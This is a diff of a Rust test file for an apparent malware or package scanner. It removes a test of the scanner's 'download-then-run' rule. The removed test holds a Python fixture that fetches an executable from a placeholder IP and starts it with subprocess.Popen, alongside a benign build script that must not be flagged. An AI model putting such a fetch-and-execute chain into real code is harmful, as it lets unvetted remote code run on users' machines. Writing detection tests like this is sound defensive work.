@@ -231,20 +231,3 @@ fn a_download_made_executable_and_a_login_hook_are_reported() {
     let report = scan(&ManifestFacts::default(), &[Entry { path: "x.py", bytes: benign.as_bytes() }]);
     assert!(report.risk_level < RiskLevel::High, "{:#?}", report.findings);
 }
-
-/// Download-then-run is one chain: the download and the start in the same
-/// function (issue 19: build tools that fetch in one function and run `npm`
-/// in another were critical).
-#[test]
-fn download_then_run_is_one_chain_not_two_functions_of_a_build_tool() {
-    let apart = "import os, urllib.request\n\
-                 def fetch_assets(url, dest):\n    urllib.request.urlretrieve(url, dest)\n\
-                 def build():\n    os.system('npm run build')\n";
-    let report = scan(&ManifestFacts::default(), &[Entry { path: "build.py", bytes: apart.as_bytes() }]);
-    assert!(!report.findings.iter().any(|f| f.rule == "download-then-run"), "{:#?}", report.findings);
-    let chain = "import subprocess, urllib.request\n\
-                 def update():\n    urllib.request.urlretrieve('http://203.0.113.4/u.exe', 'u.exe')\n    \
-                 subprocess.Popen(['u.exe'])\n";
-    let report = scan(&ManifestFacts::default(), &[Entry { path: "update.py", bytes: chain.as_bytes() }]);
-    assert!(report.findings.iter().any(|f| f.rule == "download-then-run" && f.severity == Severity::Critical));
-}
